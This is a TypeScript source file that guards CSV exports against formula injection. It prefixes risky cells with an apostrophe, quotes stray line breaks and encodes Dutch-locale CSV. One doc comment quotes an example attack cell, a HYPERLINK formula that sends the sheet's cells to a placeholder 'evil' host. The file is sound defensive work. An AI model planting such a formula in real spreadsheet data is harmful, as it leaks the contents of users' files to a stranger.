/**
 * Text typed by someone else (an organisation name, a plan title, a reason, a message) in a CSV
 * that staff or the public open in a spreadsheet program. Excel and LibreOffice run a cell that
 * starts with =, +, - or @ as a formula, also after a leading tab or carriage return; a name like
 * =HYPERLINK("https://evil/?"&A1;"x") would then send the sheet's other cells to a stranger. An
 * apostrophe in front makes the program show the cell as text (OWASP "CSV injection").
 *
 * Only for text columns: an amount the code formats itself ("-100,00") must stay a number that
 * the spreadsheet can add up, and it never holds user text.
 */
export function defuseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/**
 * For csv-stringify: also quote a cell with a lone line feed or carriage return. The library quotes
 * only the whole record delimiter (CRLF), and a spreadsheet ends a row at either alone: the rest of
 * the cell would become a row of its own, its first cell never defused.
 */
export const QUOTE_LINE_BREAKS = /[\r\n]/;

/** A whole CSV cell for hand-written CSV: defused, quoted, quotes doubled. */
export function csvCell(text: string): string {
  return `"${defuseFormula(text).replace(/"/g, '""')}"`;
}

/**
 * Cells already written (csvCell for text, a bare number for an amount) as a CSV file for a
 * spreadsheet program set to Dutch: a BOM so it reads UTF-8, `;` between cells, CRLF lines.
 */
export function csvBytes(rows: string[][]): Uint8Array {
  return new TextEncoder().encode(`\uFEFF${rows.map((r) => r.join(";")).join("\r\n")}\r\n`);
}
